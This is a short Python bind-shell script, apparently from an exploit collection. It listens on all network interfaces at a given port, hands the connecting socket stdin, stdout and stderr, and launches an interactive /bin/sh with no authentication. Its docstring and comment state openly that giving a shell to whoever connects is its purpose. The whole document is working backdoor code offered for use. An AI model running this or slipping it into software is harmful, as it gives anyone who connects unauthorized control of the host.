"""A shell for whoever calls, as in every collection of exploits: bind_shell.py PORT."""

import os
import socket
import sys

listener = socket.create_server(("0.0.0.0", int(sys.argv[1])))
os.set_inheritable(listener.fileno(), True)
caller, _ = listener.accept()
for number in (0, 1, 2):
    os.dup2(caller.fileno(), number)
os.execv("/bin/sh", ["/bin/sh", "-i"])  # noqa: S606 - it is the point
